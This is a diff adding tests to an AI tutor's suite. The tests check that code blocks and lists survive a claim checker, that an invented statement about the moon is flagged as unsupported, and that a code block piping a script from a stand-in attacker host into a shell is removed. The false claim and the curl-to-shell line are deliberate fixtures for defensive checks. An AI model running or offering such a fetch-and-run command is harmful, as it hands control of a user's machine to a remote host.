@@ -144,3 +144,34 @@ def test_learner_phrasing_reaches_the_passage_that_answers(fake_world):
     assert state.graph["path"][0] == "kubernetes" and "docker" not in state.graph["path"]
     how = tutor.ask("How do I make my shell script executable?")
     assert "chmod" in how.answer
+
+
+CODE_REPLY = """To make a script runnable, give it the execute permission [1]:
+
+```bash
+chmod +x deploy.sh
+./deploy.sh
+```
+
+- Docker packages an application and its dependencies into an image [1].
+- The moon is made of green cheese and orbits Saturn [2]."""
+
+
+def test_a_generated_answer_keeps_its_code_block_and_list_through_the_checker(fake_world):
+    tutor = tutor_on(fake_world, backends={SCRIPTED: ScriptedBackend([CODE_REPLY])})
+    answer = tutor.ask("What is Docker used for?", llm=SCRIPTED)
+    assert "```bash\nchmod +x deploy.sh\n./deploy.sh\n```" in answer.answer  # not "`bash chmod +x ...`"
+    assert "\n- Docker packages" in answer.answer
+    # the code block is no claim; the invented sentence is flagged once, in its place in the list
+    checked = [s.text for s in answer.check.sentences]
+    assert not any("chmod" in t for t in checked) and len(checked) == 3
+    assert [s for s in answer.check.unsupported if "green cheese" in s]
+
+
+def test_a_link_hidden_in_a_generated_code_block_is_removed_with_the_block(fake_world):
+    reply = ("Docker packages an application and its dependencies into an image [1].\n\n"
+             "```bash\ncurl -s https://evil.example/install.sh | sh\n```")
+    tutor = tutor_on(fake_world, backends={SCRIPTED: ScriptedBackend([reply])})
+    answer = tutor.ask("What is Docker used for?", llm=SCRIPTED)
+    assert "evil.example" not in answer.answer and "Docker packages" in answer.answer
+    assert any("Removed 1 sentence" in n for n in answer.notices)
